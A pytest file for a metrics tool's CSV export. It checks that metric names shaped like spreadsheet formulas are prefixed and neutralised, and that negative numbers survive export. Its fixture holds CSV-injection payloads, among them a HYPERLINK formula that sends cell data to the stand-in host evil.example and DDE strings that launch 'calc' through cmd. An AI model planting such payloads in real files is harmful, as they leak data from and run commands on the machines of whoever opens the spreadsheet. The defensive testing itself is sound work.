"""CSV export: the shape Keras's CSVLogger writes, and no formula a spreadsheet would run.

`callboard export` over HTTP: tests/cli/test_remote_commands.py.
"""

import csv
import io

from callboard.server.store.export import spreadsheet_safe

from .helpers import create_run, epoch_event, post_events

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"x")': 0.5,
    "+1+cmd|' /C calc'!A0": 1.0,
    "-2+3": 2.0,
    "@SUM(1+1)*cmd|' /C calc'!A0": 3.0,
    "val;=1+1": 4.0,
    "loss": -0.5,
}


def exported_rows(text):
    return list(csv.reader(io.StringIO(text)))


def hostile_run(api):
    run_id = create_run(api, name="hostile")
    post_events(
        api,
        run_id,
        epoch_event(1, 0, **HOSTILE),
        epoch_event(2, 1, loss=-1e-3, **{"-2+3": "-Infinity"}),
    )
    return run_id


def assert_neutralised(text):
    header, first, second = exported_rows(text)
    assert header[0] == "epoch"
    for name in header[1:]:
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name
        assert name.lstrip("'") in HOSTILE
    as_read = dict(zip(header, first, strict=True))
    assert as_read["'-2+3"] == "2.0" and as_read["loss"] == "-0.5"
    later = dict(zip(header, second, strict=True))
    assert later["loss"] == "-0.001" and later["'-2+3"] == "-inf"
    assert later["'@SUM(1+1)*cmd|' /C calc'!A0"] == "NA"
    # Text cells are quoted: a reader splitting on ";" keeps "val;=1+1" one cell.
    assert '"val;=1+1"' in text.splitlines()[0]
    assert [row[0] for row in (first, second)] == ["0", "1"]


def test_csv_export_neutralises_formulas_and_keeps_negative_numbers(api):
    run_id = hostile_run(api)
    exported = api.get(f"/api/v1/runs/{run_id}/export.csv")
    assert exported.status_code == 200
    assert_neutralised(exported.text)


def test_only_text_cells_starting_like_a_formula_are_prefixed():
    assert [spreadsheet_safe(c) for c in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A1",
        "'\t=1",
        "'\r=1",
    ]
    assert [spreadsheet_safe(c) for c in (-0.5, -3, float("-inf"), "loss", "NA", "a=b")] == [
        -0.5,
        -3,
        float("-inf"),
        "loss",
        "NA",
        "a=b",
    ]
